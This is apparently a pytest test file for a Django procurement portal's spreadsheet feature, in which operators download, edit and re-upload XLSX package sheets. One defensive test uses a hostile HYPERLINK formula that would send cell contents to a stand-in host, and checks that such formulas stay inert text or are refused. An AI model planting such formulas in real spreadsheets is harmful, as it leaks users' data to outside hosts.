"""The package sheet: a real XLSX downloaded, edited with openpyxl, uploaded, previewed and
confirmed, through the workspace's pages."""

import datetime
import io
import re
import zipfile

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from openpyxl import Workbook, load_workbook

from agencies.models import Agency
from contracts import services
from contracts.models import AuditEntry, Process, Release
from contracts.spreadsheet import KEY_HEADER, SHEET_TITLE, STAMP_HEADER
from tests import pdfs
from tests.factories import make_operator, make_process, make_supervisor, planning_fields

PAGE = "/admin/lembar-kerja-paket/"
DOWNLOAD = "/admin/lembar-kerja-paket/unduh/"
CONFIRM = "/admin/lembar-kerja-paket/simpan/"


@pytest.fixture
def agency():
    return Agency.objects.get(code="dinas-kesehatan")


@pytest.fixture
def other_agency():
    return Agency.objects.get(code="dinas-pendidikan")


@pytest.fixture
def operator(agency):
    return make_operator(agency, username="operator-dinkes")


@pytest.fixture
def packages(agency):
    """Two packages of 2018, named so that the sheet (ordered by name) puts A on row 2."""
    first = make_process(
        agency,
        **planning_fields(
            title="A Rehabilitasi Puskesmas Dander",
            hps_amount=1_200_000_000,
            ppk_nip="197001011990031005",
        ),
    )
    second = make_process(
        agency,
        **planning_fields(title="B Pengadaan Ambulans", budget_amount=900_000_000),
    )
    return first, second


@pytest.fixture
def signed_in(client, operator):
    client.force_login(operator)
    return client


def download(client, year=2018):
    response = client.get(DOWNLOAD, {"tahun": year})
    assert response.status_code == 200
    assert response["Content-Type"].startswith(
        "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    )
    return response.content


def edit(content, changes):
    """The workbook with cells changed: {(package id, column header): value}."""
    book = load_workbook(io.BytesIO(content))
    sheet = book[SHEET_TITLE]
    headers = {cell.value: cell.column for cell in sheet[1]}
    rows = {
        sheet.cell(row=row, column=headers[KEY_HEADER]).value: row
        for row in range(2, sheet.max_row + 1)
    }
    for (key, header), value in changes.items():
        cell = sheet.cell(row=rows[key], column=headers[header])
        cell.value = value
        if isinstance(value, str):
            cell.data_type = "s"  # typed as text, as Excel keeps text in a "@" cell
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()


def upload(client, content, name="paket-dinkes-2018.xlsx"):
    return client.post(PAGE, {"berkas": SimpleUploadedFile(name, content)})


def preview(response):
    result = response.context["result"]
    return [
        (change.line, header, old, new)
        for change in result.changes
        for header, old, new in change.cells
    ]


def confirm(client, response):
    return client.post(CONFIRM, {"konfirmasi": response.context["token"]})


@pytest.mark.django_db
def test_the_download_holds_the_agencys_packages_of_the_year_as_typed_protected_cells(
    signed_in, packages, agency, other_agency
):
    first, second = packages
    make_process(other_agency, **planning_fields(title="Paket dinas lain"))
    make_process(agency, **planning_fields(title="Paket tahun lain", fiscal_year=2019))
    book = load_workbook(io.BytesIO(download(signed_in)))
    sheet = book[SHEET_TITLE]
    header = [cell.value for cell in sheet[1]]
    column = {name: index + 1 for index, name in enumerate(header)}
    assert [sheet.cell(row=r, column=1).value for r in (2, 3)] == [first.pk, second.pk]
    assert sheet.max_row == 3  # neither the other agency's nor the other year's package
    first.refresh_from_db()
    assert sheet.cell(row=2, column=column[STAMP_HEADER]).value == first.updated_at.isoformat()
    assert sheet.column_dimensions["A"].hidden and sheet.column_dimensions["B"].hidden

    assert sheet.protection.sheet
    title = sheet.cell(row=2, column=column["Nama paket"])
    rup = sheet.cell(row=2, column=column["Kode RUP"])
    assert not title.protection.locked and rup.protection.locked
    assert sheet.cell(row=1, column=column["Kode RUP"]).fill.fgColor.rgb.endswith("D9D9D9")
    assert not sheet.cell(row=1, column=column["Nama paket"]).fill.fgColor.rgb.endswith("D9D9D9")

    budget = sheet.cell(row=2, column=column["Pagu (Rp)"])
    assert budget.value == 1_250_000_000 and budget.data_type == "n"
    assert budget.number_format == "#,##0"  # shown 1.250.000.000 by an Indonesian Excel
    start = sheet.cell(row=2, column=column["Rencana mulai"])
    assert start.value == datetime.datetime(2018, 3, 1) and start.is_date
    nip = sheet.cell(row=2, column=column["NIP PPK"])
    assert nip.value == "197001011990031005" and nip.data_type == "s"
    # The kecamatan column offers the register's names.
    [choice] = sheet.data_validations.dataValidation
    letter = sheet.cell(row=1, column=column["Kecamatan"]).column_letter
    assert str(choice.sqref) == f"{letter}2:{letter}3"
    names = [row[0].value for row in book["Kecamatan"].iter_rows()]
    assert "Dander" in names and len(names) == 28  # Bojonegoro's 28 kecamatan
    assert choice.formula1 == "=Kecamatan!$A$1:$A$28"


@pytest.mark.django_db
def test_download_edit_upload_previews_exactly_the_changes_and_confirm_saves_them(
    signed_in, packages, operator
):
    first, second = packages
    services.publish_process(process=second, by=operator)
    releases_before = Release.objects.filter(process=second).count()
    content = edit(
        download(signed_in),
        {
            (first.pk, "Nama paket"): "A Rehabilitasi Puskesmas Dander Tahap II",
            (first.pk, "Rencana selesai"): datetime.date(2018, 12, 20),
            (second.pk, "HPS (Rp)"): 875_000_000,
            # The same NIP written as printed: no change.
            (first.pk, "NIP PPK"): "19700101 199003 1 005",
        },
    )
    response = upload(signed_in, content)
    assert response.status_code == 200
    assert preview(response) == [
        (
            2,
            "Nama paket",
            "A Rehabilitasi Puskesmas Dander",
            "A Rehabilitasi Puskesmas Dander Tahap II",
        ),
        (2, "Rencana selesai", "30/11/2018", "20/12/2018"),
        (3, "HPS (Rp)", "—", "Rp 875.000.000"),
    ]
    assert not response.context["result"].errors
    first.refresh_from_db()
    assert first.title == "A Rehabilitasi Puskesmas Dander"  # nothing saved before confirming

    saved = confirm(signed_in, response)
    assert saved.status_code == 302
    first.refresh_from_db()
    second.refresh_from_db()
    assert first.title == "A Rehabilitasi Puskesmas Dander Tahap II"
    assert first.planned_end == datetime.date(2018, 12, 20)
    assert first.ppk_nip == "197001011990031005"
    assert second.hps_amount == 875_000_000
    # Through the admin's service: the audit trail, the stage reached, a new OCDS release.
    entry = AuditEntry.objects.filter(process=first, action=AuditEntry.Action.CHANGE).get()
    assert entry.user == operator
    assert entry.changes == {
        "nama paket": [
            "A Rehabilitasi Puskesmas Dander",
            "A Rehabilitasi Puskesmas Dander Tahap II",
        ],
        "rencana selesai": ["2018-11-30", "2018-12-20"],
    }
    assert second.stage_reached == "pemilihan"
    assert Release.objects.filter(process=second).count() == releases_before + 1
    assert Release.objects.filter(process=second).last().data["tender"]["value"] == {
        "amount": 875_000_000,
        "currency": "IDR",
    }


@pytest.mark.django_db
def test_one_bad_cell_refuses_the_whole_file_and_nothing_changes(signed_in, packages):
    first, second = packages
    content = edit(
        download(signed_in),
        {
            (first.pk, "Nama paket"): "Judul yang benar",
            (second.pk, "NIP PPTK"): "abc",
            (second.pk, "Rencana selesai"): datetime.date(2018, 1, 15),  # before the start
            (second.pk, "Pagu (Rp)"): "satu miliar",
        },
    )
    response = upload(signed_in, content)
    assert response.status_code == 400
    errors = response.context["result"].errors
    assert len(errors) == 2
    assert errors[0].startswith("Baris 3, kolom Pagu (Rp): Tulis jumlah rupiah tanpa sen")
    assert errors[1].startswith("Baris 3, kolom NIP PPTK: NIP “abc” memuat huruf")
    assert "token" not in response.context
    assert "Tidak ada yang disimpan" in response.content.decode()

    # With those fixed, the date order is checked against the start the sheet left alone.
    content = edit(
        content,
        {(second.pk, "NIP PPTK"): "", (second.pk, "Pagu (Rp)"): 900_000_000},
    )
    response = upload(signed_in, content)
    assert response.context["result"].errors == [
        "Baris 3, kolom Rencana selesai: Rencana mulai harus sebelum rencana selesai (atau di "
        "hari yang sama): periksa kedua tanggal."
    ]
    first.refresh_from_db()
    assert first.title == "A Rehabilitasi Puskesmas Dander"
    assert not AuditEntry.objects.filter(action=AuditEntry.Action.CHANGE).exists()


@pytest.mark.django_db
def test_a_row_changed_since_the_download_is_refused_and_confirm_saves_none(
    signed_in, packages, operator
):
    first, second = packages
    content = download(signed_in)
    # Someone saves B in the admin after the download, in a field the sheet leaves out.
    second.description = "Uraian dari admin"
    services.save_process(process=second, by=operator)
    untouched = upload(signed_in, content)
    assert untouched.context["result"].ok  # the sheet would not undo anything
    assert "tidak mengubah apa pun" in untouched.content.decode()
    # A stale row whose cell says the same thing another way changes nothing either.
    first.description = "Uraian dari admin"
    services.save_process(process=first, by=operator)
    same = upload(signed_in, edit(content, {(first.pk, "NIP PPK"): "19700101 199003 1 005"}))
    assert same.context["result"].ok and not same.context["result"].changes

    response = upload(signed_in, edit(content, {(second.pk, "HPS (Rp)"): 800_000_000}))
    assert response.status_code == 400
    [error] = response.context["result"].errors
    assert error.startswith("Baris 3: paket “B Pengadaan Ambulans” sudah diubah di portal")
    assert "Unduh ulang" in error

    # A column of the sheet changed in the admin: the old value in the file would undo it.
    second.ppk_name = "PPK baru dari admin"
    services.save_process(process=second, by=operator)
    response = upload(signed_in, content)
    assert response.context["result"].errors[0].startswith("Baris 3: paket “B Pengadaan")

    # Reviewed fine, then changed before the confirmation: the confirmation saves nothing.
    content = download(signed_in)
    response = upload(
        signed_in,
        edit(content, {(first.pk, "Nama paket"): "A baru", (second.pk, "HPS (Rp)"): 800_000_000}),
    )
    assert response.context["result"].ok
    second.refresh_from_db()
    second.pptk_name = "Perubahan di sela-sela"
    services.save_process(process=second, by=operator)
    refused = confirm(signed_in, response)
    assert refused.status_code == 409
    assert refused.context["result"].errors[0].startswith("Baris 3: paket “B Pengadaan Ambulans”")
    first.refresh_from_db()
    second.refresh_from_db()
    assert first.title == "A Rehabilitasi Puskesmas Dander"
    assert second.hps_amount is None


@pytest.mark.django_db
def test_rows_of_another_agency_and_unknown_ids_are_refused(signed_in, packages, other_agency):
    first, second = packages
    theirs = make_process(other_agency, **planning_fields(title="Milik Dinas Pendidikan"))
    content = edit(
        download(signed_in),
        {(first.pk, KEY_HEADER): theirs.pk, (second.pk, KEY_HEADER): 999_999_999},
    )
    content = edit(content, {(theirs.pk, "Nama paket"): "Diubah dinas lain"})
    response = upload(signed_in, content)
    assert response.context["result"].errors == [
        "Baris 2: paket ini bukan milik perangkat daerah Anda; hanya paket perangkat daerah "
        "Anda yang dapat diubah lewat lembar ini.",
        "Baris 3: paket dengan ID 999999999 tidak ada (mungkin sudah dihapus).",
    ]
    theirs.refresh_from_db()
    assert theirs.title == "Milik Dinas Pendidikan"


@pytest.mark.django_db
def test_a_confirmation_is_reviewed_again_for_whoever_sends_it(client, packages, other_agency):
    first, _ = packages
    operator_a = make_operator(first.agency, username="operator-a")
    client.force_login(operator_a)
    response = upload(client, edit(download(client), {(first.pk, "Nama paket"): "Oleh A"}))
    token = response.context["token"]
    client.force_login(make_operator(other_agency, username="operator-b"))
    refused = client.post(CONFIRM, {"konfirmasi": token})
    assert refused.status_code == 400
    assert "milik pengguna lain" in refused.content.decode()
    tampered = client.post(CONFIRM, {"konfirmasi": token[:-3] + "abc"})
    assert "tidak sah" in tampered.content.decode()
    first.refresh_from_db()
    assert first.title == "A Rehabilitasi Puskesmas Dander"


@pytest.mark.django_db
def test_text_that_looks_like_a_formula_stays_text_and_a_real_formula_is_refused(signed_in, agency):
    hostile = '=HYPERLINK("http://contoh.invalid/?"&A1,"klik")'
    process = make_process(agency, **planning_fields(title=hostile))
    content = download(signed_in)
    sheet_xml = zipfile.ZipFile(io.BytesIO(content)).read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet_xml  # no cell of the download is a formula
    assert "tidak mengubah apa pun" in upload(signed_in, content).content.decode()

    response = upload(signed_in, edit(content, {(process.pk, "Nomor kontrak/SPK"): "=1+1"}))
    assert preview(response) == [(2, "Nomor kontrak/SPK", "—", "=1+1")]
    confirm(signed_in, response)
    process.refresh_from_db()
    assert process.contract_number == "=1+1" and process.title == hostile

    book = load_workbook(io.BytesIO(download(signed_in)))
    book[SHEET_TITLE]["H2"] = "=SUM(1,2)"  # a formula typed into the name column
    assert book[SHEET_TITLE]["H1"].value == "Nama paket"
    buffer = io.BytesIO()
    book.save(buffer)
    response = upload(signed_in, buffer.getvalue())
    assert response.context["result"].errors == [
        "Baris 2, kolom Nama paket: berisi rumus; tulis nilainya saja (salin, lalu tempel "
        "sebagai nilai)."
    ]


def resaved_by_excel(content):
    """The workbook as Excel writes it back: whole amounts as floats ("1250000000.0")."""
    source = zipfile.ZipFile(io.BytesIO(content))
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as target:
        for item in source.infolist():
            data = source.read(item.filename)
            if item.filename == "xl/worksheets/sheet1.xml":
                data = re.sub(rb"<v>(\d{6,})</v>", rb"<v>\1.0</v>", data)
            target.writestr(item, data)
    return buffer.getvalue()


@pytest.mark.django_db
def test_excel_floats_datetimes_and_trailing_spaces_are_read_as_meant(signed_in, packages):
    first, second = packages
    content = edit(
        download(signed_in),
        {
            (first.pk, "Nama paket"): "A Rehabilitasi Puskesmas Dander   ",  # same, padded
            (first.pk, "Tanggal penetapan"): datetime.datetime(2018, 6, 4, 0, 0),
            (second.pk, "HPS (Rp)"): 880_000_000,
            (second.pk, "Nomor kontrak/SPK"): "  027/SPK/2018  ",
        },
    )
    resaved = resaved_by_excel(content)
    values = load_workbook(io.BytesIO(resaved), read_only=True)[SHEET_TITLE]
    assert any(
        cell.value == 1_250_000_000.0 and isinstance(cell.value, float)
        for row in values.iter_rows(min_row=2)
        for cell in row
    )
    response = upload(signed_in, resaved)
    assert preview(response) == [
        (2, "Tanggal penetapan", "—", "04/06/2018"),
        (3, "HPS (Rp)", "—", "Rp 880.000.000"),
        (3, "Nomor kontrak/SPK", "—", "027/SPK/2018"),
    ]
    confirm(signed_in, response)
    second.refresh_from_db()
    assert second.hps_amount == 880_000_000 and second.contract_number == "027/SPK/2018"


@pytest.mark.django_db
def test_amounts_and_dates_typed_as_text_are_read_like_the_admin_reads_them(signed_in, packages):
    first, _ = packages
    response = upload(
        signed_in,
        edit(
            download(signed_in),
            {
                (first.pk, "HPS (Rp)"): "Rp 1.150.000.000",
                (first.pk, "Tanggal pengumuman"): "02/04/2018",
                (first.pk, "Batas pemasukan penawaran"): "2018-04-16",
                (first.pk, "Kecamatan"): "Kota Atlantis",
            },
        ),
    )
    assert response.context["result"].errors == [
        "Baris 2, kolom Kecamatan: “Kota Atlantis” tidak ada di register kecamatan; tulis "
        "namanya persis seperti di register (misalnya Dander)."
    ]
    response = upload(
        signed_in,
        edit(
            download(signed_in),
            {
                (first.pk, "HPS (Rp)"): "Rp 1.150.000.000",
                (first.pk, "Tanggal pengumuman"): "02/04/2018",
                (first.pk, "Batas pemasukan penawaran"): "16-04-2018",
                (first.pk, "Kecamatan"): "Bojonegoro",
            },
        ),
    )
    assert preview(response) == [
        (2, "Kecamatan", "Dander", "Bojonegoro"),
        (2, "HPS (Rp)", "Rp 1.200.000.000", "Rp 1.150.000.000"),
        (2, "Tanggal pengumuman", "—", "02/04/2018"),
        (2, "Batas pemasukan penawaran", "—", "16/04/2018"),
    ]


@pytest.mark.django_db
def test_a_file_that_is_not_the_sheet_is_refused_with_the_reason(signed_in, packages, settings):
    response = upload(signed_in, pdfs.good_pdf("paket.pdf"), name="paket.xlsx")
    assert response.status_code == 400
    assert "bukan berkas XLSX" in response.context["problem"]

    settings.DOCUMENT_MAX_BYTES = 2048
    response = upload(signed_in, download(signed_in) + b"\0" * 4096)
    assert "lebih dari batas 2,0" in response.content.decode()
    settings.DOCUMENT_MAX_BYTES = 25 * 1024 * 1024

    book = Workbook()
    book.active.title = "Sheet1"
    book.active.append(["Nama paket"])
    buffer = io.BytesIO()
    book.save(buffer)
    response = upload(signed_in, buffer.getvalue())
    assert "tidak ada lembar “Paket”" in response.context["problem"]

    book.active.title = SHEET_TITLE
    buffer = io.BytesIO()
    book.save(buffer)
    response = upload(signed_in, buffer.getvalue())
    assert f"tidak memuat kolom “{KEY_HEADER}”" in response.context["problem"]
    assert Process.objects.filter(title="A Rehabilitasi Puskesmas Dander").exists()


@pytest.mark.django_db
def test_only_operators_use_the_sheet_and_only_for_their_agency(client, packages, other_agency):
    client.force_login(make_supervisor(username="pengawas"))
    assert client.get(PAGE).status_code == 403
    assert client.get(DOWNLOAD).status_code == 403
    client.force_login(make_operator(other_agency, username="operator-dikbud"))
    assert client.get(PAGE).status_code == 200
    # Their agency has no package: nothing of Dinas Kesehatan's comes down.
    response = client.get(DOWNLOAD, {"tahun": 2018})
    assert response.status_code == 302
    assert reverse("process-sheet") == response["Location"]


@pytest.mark.django_db
def test_a_repeated_row_an_emptied_id_and_an_amount_with_sen_are_refused(signed_in, packages):
    book = load_workbook(io.BytesIO(download(signed_in)))
    sheet = book[SHEET_TITLE]
    headers = {cell.value: cell.column for cell in sheet[1]}
    # Row 4 copies row 2; row 3's id is cleared; row 2's HPS gets sen.
    for cell in sheet[2]:
        sheet.cell(row=4, column=cell.column).value = cell.value
    sheet.cell(row=4, column=headers["Nama paket"]).value = "Salinan"
    sheet.cell(row=3, column=headers[KEY_HEADER]).value = None
    sheet.cell(row=2, column=headers["HPS (Rp)"]).value = 1_200_000_000.5
    buffer = io.BytesIO()
    book.save(buffer)
    response = upload(signed_in, buffer.getvalue())
    assert response.context["result"].errors == [
        "Baris 2, kolom HPS (Rp): jumlah rupiah ditulis tanpa sen (bilangan bulat).",
        f"Baris 3: kolom “{KEY_HEADER}” kosong atau diubah; baris ini tidak dikenali.",
        "Baris 4: paket yang sama sudah ada di baris 2; satu baris satu paket.",
    ]


@pytest.mark.django_db
def test_a_rule_broken_outside_the_sheet_is_named_with_where_to_fix_it(signed_in, agency):
    # An imported value the admin would refuse too: the sheet says which and where.
    process = make_process(agency, **planning_fields(lpse_url="bukan alamat"))
    response = upload(signed_in, edit(download(signed_in), {(process.pk, "Nama paket"): "Baru"}))
    [error] = response.context["result"].errors
    assert error.startswith("Baris 2, isian tautan LPSE (perbaiki di halaman paketnya): ")


@pytest.mark.django_db
def test_an_id_too_long_for_any_package_is_an_unrecognised_row(signed_in, packages):
    first, _ = packages
    response = upload(signed_in, edit(download(signed_in), {(first.pk, KEY_HEADER): "9" * 30}))
    assert response.context["result"].errors == [
        f"Baris 2: kolom “{KEY_HEADER}” kosong atau diubah; baris ini tidak dikenali."
    ]


@pytest.mark.django_db
def test_a_nip_saved_as_a_number_is_refused_not_rounded(signed_in, packages):
    """Excel keeps 15 significant digits: the NIP 19700101 199003 1 001 typed as a number comes
    back as 197001011990031000 or thereabouts, a valid-looking NIP of somebody else."""
    first, _ = packages
    before = first.ppk_nip
    response = upload(
        signed_in, edit(download(signed_in), {(first.pk, "NIP PPK"): 197001011990031001.0})
    )
    assert response.status_code == 400
    [error] = response.context["result"].errors
    assert error.startswith("Baris 2, kolom NIP PPK: NIP tersimpan sebagai angka")
    assert "ketik ulang sebagai teks" in error
    first.refresh_from_db()
    assert first.ppk_nip == before
